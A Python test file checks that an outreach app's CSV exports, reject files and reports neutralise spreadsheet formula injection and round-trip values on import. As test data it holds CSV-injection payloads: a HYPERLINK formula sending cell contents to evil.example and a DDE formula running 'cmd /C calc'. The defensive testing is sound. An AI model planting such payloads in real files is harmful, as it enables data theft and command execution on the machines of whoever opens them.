"""Every CSV outreach writes opens in a spreadsheet without running a formula, and `contacts import` reads an
export back as it was (OWASP, "CSV Injection")."""

from __future__ import annotations

import csv
import io
import itertools
from datetime import UTC, datetime

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import delete, select

from outreach.contacts import directory, values
from outreach.contacts.segments import parse_segment
from outreach.db.models import Contact, ContactTag
from outreach.reports.figures import CampaignRecord, MessageRecord, Records, StepRecord, build_report
from outreach.spreadsheets import FORMULA_STARTS, quote_formula, unquote_formula

from .conftest import Env
from .test_import import do_import

NOW = datetime(2026, 11, 29, 9, 30, tzinfo=UTC)


def cells_of(text: str) -> list[str]:
    """Every cell of a CSV document, the header's too."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def runs_nothing(cells: list[str]) -> bool:
    """No cell starts with a character that makes a spreadsheet read it as a formula."""
    return not [cell for cell in cells if cell.startswith(tuple(FORMULA_STARTS))]


@given(st.text(max_size=30), st.sampled_from(["", *FORMULA_STARTS, "'", "''", "'=", "'\t"]))
def test_any_text_is_quoted_so_that_it_starts_no_formula_and_unquoted_back(tail: str, start: str) -> None:
    text = start + tail
    quoted = quote_formula(text)
    assert runs_nothing([quoted])
    assert unquote_formula(quoted) == text


def test_formulas_phone_numbers_and_negative_numbers_get_a_quote_and_nothing_else_does() -> None:
    assert quote_formula('=HYPERLINK("https://evil.example","Click")') == '\'=HYPERLINK("https://evil.example","Click")'
    assert quote_formula('=DDE("cmd";"/C calc";"!A0")A0') == '\'=DDE("cmd";"/C calc";"!A0")A0'
    assert [quote_formula(v) for v in ("+33 6 12 34 56 78", "-5", "@SUM(A1)", "\t=1", "\r=1")] == [
        "'+33 6 12 34 56 78", "'-5", "'@SUM(A1)", "'\t=1", "'\r=1"]  # fmt: skip
    assert [quote_formula(v) for v in ("Jane", "O'Brien", "'quoted'", "", "5-3", "a=b")] == [
        "Jane", "O'Brien", "'quoted'", "", "5-3", "a=b"]  # fmt: skip
    assert quote_formula("'=not a formula") == "''=not a formula"  # so that it reads back with its quote
    assert [unquote_formula(v) for v in ("'x", "'", "O'Brien", "''=x", "'+33")] == ["'x", "'", "O'Brien", "'=x", "+33"]


# Values as the contact list holds them (no control characters, no blanks around), starting as formulas do.
texts = st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Zl", "Zp")), max_size=20)
formulas = st.builds(
    lambda start, tail: values.clean_text(start + tail),
    st.sampled_from(["=", "+", "-", "@", "'", "'=", "''+", "=HYPERLINK(", "+33 6 ", "-"]),
    texts,
)
examples = itertools.count()


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(st.sampled_from(["", "=", "+", "-"]), formulas, formulas, formulas), min_size=1, max_size=4))
def test_an_export_runs_no_formula_and_imports_back_value_for_value(
    env: Env, people: list[tuple[str, str, str, str]]
) -> None:
    tag = f"example-{next(examples)}"
    written = {}
    for number, (local, name, phone, note) in enumerate(people):
        address = f"{local}{tag}-{number}@example.org"
        fields = {"name": name, "organization": note}
        directory.add_contact(env.sessions, address, fields, (tag,), {"phone": phone, "note": note}, now=NOW)
        written[address] = (name, note, {"phone": phone, "note": note})
    exported = io.StringIO()
    assert directory.export_contacts(env.sessions, parse_segment(f"tag:{tag}"), exported) == len(people)
    assert runs_nothing(cells_of(exported.getvalue())), exported.getvalue()

    with env.sessions.begin() as session:  # the contacts go, and come back from the export alone
        ids = list(session.scalars(select(Contact.id).where(Contact.email.in_(list(written)))))
        session.execute(delete(ContactTag).where(ContactTag.contact_id.in_(ids)))
        session.execute(delete(Contact).where(Contact.id.in_(ids)))
    summary = do_import(env, env.write(f"{tag}.csv", exported.getvalue()))
    assert (summary.imported, summary.rejected) == (len(people), 0)
    for address, (name, note, attributes) in written.items():
        back = directory.show_contact(env.sessions, address)
        assert (back.email, back.name, back.organization, back.attributes) == (address, name, note, attributes)


def test_the_rejects_file_runs_no_formula_that_the_imported_file_held(env: Env) -> None:
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    path = env.write(
        "list.csv",
        "email,name,phone,@cmd\n"
        f'not-an-address,"{hostile.replace(chr(34), 2 * chr(34))}",+33 6 12 34 56 78,-1\n'
        "=1+1,Jane,\t=cmd,'=kept\n",
    )
    summary = do_import(env, path)
    assert summary.rejected == 2 and summary.rejects_path is not None
    text = summary.rejects_path.read_text(encoding="utf-8")
    assert runs_nothing(cells_of(text)), text
    rows = [[unquote_formula(cell) for cell in row] for row in csv.reader(io.StringIO(text))]
    assert rows[0] == ["line", "reason", "email", "name", "phone", "@cmd"]
    assert rows[1][2:] == ["not-an-address", hostile, "+33 6 12 34 56 78", "-1"]
    assert rows[2][2:] == ["=1+1", "Jane", "\t=cmd", "=kept"]  # '=kept was read as a quoted formula


def test_the_report_csv_runs_no_formula() -> None:
    records = Records(
        campaigns=[CampaignRecord(1, "=HYPERLINK(1)", "active", NOW)],
        steps=[StepRecord(1, 1, 0, "@appeal")],
        messages=[MessageRecord(1, 1, 1, "sent", NOW, None, "+FR"), MessageRecord(1, 1, 2, "failed", None, "mp", None)],
    )
    text = build_report(records, now=NOW).as_csv()
    assert runs_nothing(cells_of(text)), text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {row["campaign"] for row in rows} == {"'=HYPERLINK(1)"}
    assert {row["value"] for row in rows if row["breakdown"] == "country"} == {"'+FR", "'-"}
